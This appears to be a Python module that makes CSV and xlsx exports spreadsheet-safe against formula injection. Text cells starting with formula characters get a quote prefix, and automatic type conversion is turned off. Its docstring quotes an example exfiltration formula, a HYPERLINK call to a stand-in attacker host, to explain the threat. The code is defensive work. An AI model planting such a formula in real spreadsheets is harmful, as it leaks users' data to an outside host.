"""Spreadsheet-safe exports: every free-text cell is written as text, never as a formula.

Text that a rater, a device or staff typed (comments, tags, staff numbers, names, codes)
ends up in managers' spreadsheets. A cell starting with ``=``, ``+``, ``-`` or ``@`` (or
a tab or CR, which some programs strip first) is run as a formula by Excel, WPS and
LibreOffice — ``=HYPERLINK("http://evil.example/?"&A1,"x")`` sends the sheet away. Every
export goes through this module (SPEC §11):

* ``csv_bytes(rows)`` — a CSV file (UTF-8 with BOM, so Excel reads it), each text cell
  passed through ``safe_text``;
* ``xlsx_sheet(out, name)`` — an xlsx workbook of one sheet written row by row by
  XlsxWriter in constant-memory mode (each row goes to disk as it is appended, strings
  inline, so a million rows never sit in memory). Text cells are always string cells;
  text that starts like a formula also carries Excel's quote prefix, so editing the cell
  keeps it text.

Numbers and ``None`` are written as they are; only ``str`` values are touched.
"""
from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator, Sequence
from contextlib import contextmanager
from numbers import Number
from typing import IO

import xlsxwriter

# What a spreadsheet program may take as the start of a formula (OWASP's CSV injection list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# C0 controls an XML 1.0 document (xlsx, docx) cannot hold; they become U+FFFD instead of failing it.
NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
# Never guess a type from text: a comment "=1+1", "0012" or "http://…" stays the text it is.
WORKBOOK_OPTIONS = {"constant_memory": True, "strings_to_formulas": False, "strings_to_numbers": False,
                    "strings_to_urls": False}


def safe_text(value):
    """``value`` made safe for a CSV cell: text starting like a formula gets a leading ``'``.

    Non-text values (numbers, dates, None) are returned unchanged.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def xml_text(value: str) -> str:
    """``value`` with the characters XML cannot hold replaced by U+FFFD."""
    return NOT_IN_XML.sub("\ufffd", value) if NOT_IN_XML.search(value) else value


def csv_bytes(rows: Iterable[Sequence]) -> bytes:
    """``rows`` as a CSV file in UTF-8 with a BOM, every text cell through ``safe_text``."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    for row in rows:
        writer.writerow(["" if cell is None else safe_text(cell) for cell in row])
    return buf.getvalue().encode("utf-8-sig")


class Sheet:
    """One worksheet written top to bottom; ``append`` writes the next row.

    Styles are dicts of XlsxWriter format properties (``{"bold": True}``,
    ``{"num_format": "0.00%"}``); each distinct style becomes one workbook format.
    """

    def __init__(self, workbook: xlsxwriter.Workbook, name: str):
        self._workbook = workbook
        self.ws = workbook.add_worksheet(name)
        self.row = -1  # index (0-based) of the last row written
        self._formats: dict = {}

    def _format(self, style: dict | None, quoted: bool):
        if quoted:
            style = {**(style or {}), "quote_prefix": True}
        if not style:
            return None
        key = tuple(sorted(style.items()))
        if key not in self._formats:
            self._formats[key] = self._workbook.add_format(style)
        return self._formats[key]

    def append(self, values: Sequence, style: dict | None = None, styles: dict[int, dict] | None = None) -> int:
        """Write ``values`` as the next row (``style`` for every cell, ``styles`` by column
        index over it); return the row's 0-based index."""
        self.row += 1
        ws, row = self.ws, self.row
        for col, value in enumerate(values):
            cell_style = {**(style or {}), **styles[col]} if styles and col in styles else style
            if value is None:
                if cell_style:
                    ws.write_blank(row, col, None, self._format(cell_style, False))
            elif isinstance(value, str):
                value = xml_text(value)
                quoted = value.startswith(FORMULA_STARTS)
                fmt = self._format(cell_style, quoted) if (cell_style or quoted) else None
                ws.write_string(row, col, value, fmt)
            elif isinstance(value, Number) and not isinstance(value, bool):
                ws.write_number(row, col, value, self._format(cell_style, False))
            else:
                ws.write_string(row, col, str(value), self._format(cell_style, False))
        return row


@contextmanager
def xlsx_sheet(out: str | IO[bytes], name: str) -> Iterator[Sheet]:
    """A one-sheet xlsx workbook written to ``out`` (a path or a binary file), closed —
    and so complete — when the block ends."""
    workbook = xlsxwriter.Workbook(out, WORKBOOK_OPTIONS)
    try:
        yield Sheet(workbook, name)
    finally:
        workbook.close()
